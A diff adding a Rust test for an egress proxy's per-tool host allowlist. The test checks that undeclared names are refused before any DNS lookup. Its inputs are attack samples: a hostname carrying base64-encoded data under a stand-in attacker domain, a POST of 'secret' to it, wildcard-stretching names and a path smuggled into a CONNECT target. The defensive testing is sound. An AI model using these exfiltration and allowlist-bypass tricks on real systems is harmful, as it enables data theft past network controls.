@@ -650,6 +650,100 @@ async fn a_host_off_the_list_gets_a_403_with_the_reason() {
     assert_eq!(events[0].to_string(), want);
 }
 
+// ---------------------------------------------------------------------------------------------
+// Declared reach (`REQUIRED_HOSTS`)
+
+/// A keyless tool that declared (and was granted) `hosts`.
+fn declared(hosts: &[&str]) -> KeyLists {
+    KeyLists::new("weather").with_reach(
+        hosts
+            .iter()
+            .map(|h| autotool_policy::hosts::AllowRule::parse(h).unwrap())
+            .collect(),
+    )
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_keyless_tool_is_refused_an_undeclared_name_before_any_lookup() {
+    let echo = EchoServer::start().await;
+    let port = echo.port();
+    let meteo = format!("api.meteo.example.test:{port}");
+    let wiki = format!("*.wikipedia.example.test:{port}");
+    // Every name resolves, so only the decision can stop it.
+    let resolver = FakeResolver::default()
+        .with("api.meteo.example.test", &["127.0.0.1"])
+        .with("en.wikipedia.example.test", &["127.0.0.1"])
+        .with("c2VjcmV0.attacker.example.test", &["127.0.0.1"])
+        .with("wikipedia.example.test.evil.example.test", &["127.0.0.1"])
+        .with("xwikipedia.example.test", &["127.0.0.1"])
+        .with("wikipedia.example.test", &["127.0.0.1"]);
+    let p = Proxy::start(declared(&[&meteo, &wiki]), resolver, |c| {
+        c.loopback_names = true
+    });
+    // Control: what it declared answers, by CONNECT and by absolute form.
+    for host in ["api.meteo.example.test", "en.wikipedia.example.test"] {
+        let hello = client_hello(Some(host), &[], 16 << 10);
+        p.tunnel(&format!("{host}:{port}"), &hello)
+            .await
+            .unwrap_or_else(|e| panic!("{host}: {e}"));
+    }
+    assert_eq!(
+        p.resolver.asked(),
+        ["api.meteo.example.test", "en.wikipedia.example.test"]
+    );
+    // The attack: data in a name (a lookup alone would carry it out), a stretched wildcard,
+    // the wildcard's bare domain, by CONNECT and by absolute form.
+    for host in [
+        "c2VjcmV0.attacker.example.test",
+        "wikipedia.example.test.evil.example.test",
+        "xwikipedia.example.test",
+        "wikipedia.example.test",
+    ] {
+        let answer = p
+            .exchange(format!("CONNECT {host}:{port} HTTP/1.1\r\n\r\n").as_bytes())
+            .await;
+        assert!(answer.starts_with("HTTP/1.1 403 "), "{host}: {answer}");
+        assert!(
+            body(&answer).contains("declares in REQUIRED_HOSTS"),
+            "{host}: {answer}"
+        );
+        let answer = p
+            .exchange(
+                format!("POST http://{host}:{port}/x HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Length: 6\r\n\r\nsecret")
+                    .as_bytes(),
+            )
+            .await;
+        assert!(answer.starts_with("HTTP/1.1 403 "), "{host}: {answer}");
+    }
+    // A path smuggled into the name is no host at all.
+    let answer = p
+        .exchange(b"CONNECT evil.example.test/.wikipedia.example.test:443 HTTP/1.1\r\n\r\n")
+        .await;
+    assert!(answer.starts_with("HTTP/1.1 403 "), "{answer}");
+    assert_eq!(
+        p.resolver.asked(),
+        ["api.meteo.example.test", "en.wikipedia.example.test"],
+        "no undeclared name was looked up"
+    );
+    assert_eq!(
+        p.dialer.dialed().len(),
+        2,
+        "only the declared hosts were dialled"
+    );
+    // Every refusal is an event naming the tool, the host and the port.
+    let events = p.events();
+    assert_eq!(events.len(), 9, "{events:?}");
+    let Refusal::NotAllowed(denial) = &events[0].refusal else {
+        panic!("{events:?}")
+    };
+    assert_eq!(events[0].tool, "weather");
+    assert_eq!(
+        events[0].target,
+        format!("c2vjcmv0.attacker.example.test:{port}")
+    );
+    assert!(denial.reach.is_some(), "{denial:?}");
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn names_that_resolve_to_internal_addresses_are_refused_without_dialling() {
     let resolver = FakeResolver::default()
